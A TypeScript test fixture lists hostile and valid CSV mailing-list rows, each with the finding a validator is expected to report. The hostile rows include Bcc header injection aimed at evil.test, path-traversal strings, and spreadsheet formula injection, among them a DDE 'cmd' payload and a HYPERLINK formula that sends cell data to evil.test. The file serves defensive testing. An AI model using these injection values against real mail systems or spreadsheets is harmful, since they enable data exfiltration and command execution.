/** One line of a list that nobody should trust: its four values as written in CSV, and what must be said of it. */
export interface HostileLine {
  /** Everything between two line breaks; quoted values may hold breaks of their own. */
  readonly text: string;
  /** Codes of its findings; `ok` for people who may be written to. */
  readonly finding: string;
  /** For those, what the server is told. */
  readonly address?: string;
}

const bad = (text: string, finding: string): HostileLine => ({ text, finding });
const good = (text: string, address: string, finding = "ok"): HostileLine => ({ text, finding, address });
const address = (text: string): HostileLine => bad(`${text},A,,`, "list-address");
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** Lines under the header `email,name,audience,locale`. */
export const HOSTILE_LINES: readonly HostileLine[] = [
  good("ann@example.com,Ann,,", "ann@example.com"),
  good(" bob@example.com , Bob , c-level , de ", "bob@example.com"),
  // Smuggling further recipients and headers.
  bad(`${quoted("cat@example.com\r\nBcc: evil@evil.test")},A,,`, "list-value-control"),
  bad(`${quoted("cat@example.com\nBcc: evil@evil.test")},A,,`, "list-value-control"),
  bad(`${quoted("cat@example.com\rBcc:evil@evil.test")},A,,`, "list-value-control"),
  bad(`cat@example.com,${quoted("Cat\r\nBcc: evil@evil.test")},,`, "list-value-control"),
  bad(`cat@example.com,${quoted("Cat\r\n\r\n<html>")},,`, "list-value-control"),
  bad(`cat@example.com,Cat\u2028Bcc: evil@evil.test,,`, "list-value-control"),
  bad(`cat@example.com,Cat\u0085Bcc: evil@evil.test,,`, "list-value-control"),
  bad("cat@example.com\u0000@evil.test,A,,", "list-value-control"),
  bad("cat@example.com\u001b[2J,A,,", "list-value-control"),
  bad("cat@example.com\t,Cat\tBcc,,", "list-value-control"),
  address("cat@example.com%0d%0aBcc:evil@evil.test"),
  address("cat@example.com%0aBcc"),
  address("Bcc: evil@evil.test"),
  address(quoted("cat@example.com, evil@evil.test")),
  address("cat@example.com;evil@evil.test"),
  address(quoted("cat@example.com,evil@evil.test")),
  address("cat@example.com evil@evil.test"),
  address("cat@example.com\u00a0evil"),
  address("cat@example.com\u3000evil"),
  address("cat@example.com> SIZE=1"),
  address("<cat@example.com>"),
  address("Cat <cat@example.com>"),
  address("cat@example.com (Cat)"),
  address("mailto:cat@example.com"),
  address("undisclosed-recipients:;"),
  address("group:cat@example.com"),
  // Quoted local parts and routes.
  address(quoted('"cat"@example.com')),
  address(quoted('"evil@evil.test"@example.com')),
  address(quoted('"cat@example.com, evil"@evil.test')),
  address(quoted('"a b"@example.com')),
  address("cat\\@evil.test@example.com"),
  address("@evil.test:cat@example.com"),
  address("cat%evil.test@example.com"),
  address("evil.test!cat@example.com"),
  address("cat@evil.test@example.com"),
  address("cat@@example.com"),
  // Not an address at all.
  address(""),
  address("cat"),
  address("cat@"),
  address("@example.com"),
  address("cat@localhost"),
  address("cat@127.0.0.1"),
  address("cat@[127.0.0.1]"),
  address("cat@[IPv6:::1]"),
  address("cat@2130706433"),
  address("cat@example"),
  address("cat@example..com"),
  address("cat@.example.com"),
  address("cat@example.com."),
  address("cat@-example.com"),
  address("cat@exam_ple.com"),
  address("cat@example.123"),
  address("cat@example.com/path"),
  address("cat@example.com#x"),
  address("cat@example.com:25"),
  address(".cat@example.com"),
  address("cat.@example.com"),
  address("c..at@example.com"),
  address("c(at)@example.com"),
  address("cat＠example.com"),
  address("cat@exam\u200bple.com"),
  address("c\u00adat@example.com"),
  bad("\ufeffcat@example.com\u200e,A,,", "list-value-control"),
  address(`${"a".repeat(65)}@example.com`),
  address(`cat@${"a".repeat(64)}.com`),
  address(`cat@${"abcdefg.".repeat(31)}example.com`),
  // Direction and looks.
  bad("cat@example.com,Cat \u202egnp.exe,,", "list-value-control"),
  bad("moc.elpmaxe@tac\u202e,A,,", "list-value-control"),
  // What a spreadsheet would run.
  address("=1+1"),
  address(quoted('=HYPERLINK("http://evil.test?x="&A1)@example.com')),
  address("+cat@example.com"),
  address("-cat@example.com"),
  address("'cat@example.com"),
  bad("cat@example.com,=1+1,,", "list-value-formula"),
  bad("cat@example.com,@SUM(A1:A9),,", "list-value-formula"),
  bad("cat@example.com,+cmd|' /C calc'!A0,,", "list-value-formula"),
  bad("cat@example.com,-2+3,,", "list-value-formula"),
  // Wrong columns.
  bad("cat@example.com", "list-row-columns"),
  bad("cat@example.com,Cat", "list-row-columns"),
  bad("cat@example.com,Cat,,,", "list-row-columns"),
  bad("cat@example.com,Doe, Cat,,", "list-row-columns"),
  bad("Cat,cat@example.com,,", "list-address"),
  bad("cat@example.com;Cat;;", "list-row-columns"),
  bad("cat@example.com,Cat,board,", "list-audience"),
  bad("cat@example.com,Cat,../../etc,", "list-audience"),
  bad("cat@example.com,Cat,c-level,Klingon", "list-locale"),
  bad("cat@example.com,Cat,c-level,../de", "list-locale"),
  bad("cat@example.com,Cat,c-level,en_GB", "list-locale"),
  // Far too long.
  bad(`${"a".repeat(2 ** 20)}@example.com,A,,`, "list-value-long"),
  bad(`cat@example.com,${"A".repeat(2 ** 20)},,`, "list-value-long"),
  bad(`cat@example.com,${"A".repeat(121)},,`, "list-value-long"),
  // The same person again.
  bad("ann@example.com,Ann,,", "list-address-twice"),
  bad("ANN@EXAMPLE.COM,Ann,c-level,", "list-address-twice"),
  bad("Ann@ｅxample.com,Ann,,", "list-address-twice"),
  bad("ａnn@example.com,Ann,,", "list-address-twice"),
  good("jörg@bücher.example,Jörg,,", "jörg@xn--bcher-kva.example"),
  bad("JÖRG@xn--bcher-kva.example,Jörg,,", "list-address-twice"),
  bad("jo\u0308rg@BÜCHER.example,Jörg,,", "list-address-twice"),
  good("ann+news@example.com,Ann,,", "ann+news@example.com", "list-plus-twin"),
  // Domains that pose as others.
  good("cat@exаmple.com,Cat,,", "cat@xn--exmple-4nf.com", "list-homograph"),
  good("cat@арр.com,Cat,,", "cat@xn--80a6aa.com", "list-homograph"),
  good("cat@москва.example,Cat,,", "cat@xn--80adxhks.example"),
  // Unusual, and in order.
  good("o'brien@example.com,Ó Briain,marketing,en-GB", "o'brien@example.com"),
  good(`d.e_f-g@sub.example.co.uk,${quoted('Doe, "Dee" D.')},,`, "d.e_f-g@sub.example.co.uk"),
  good("用户@例子.example,用户,,", "用户@xn--fsqu00a.example"),
  good("1@example.com,,,", "1@example.com"),
];
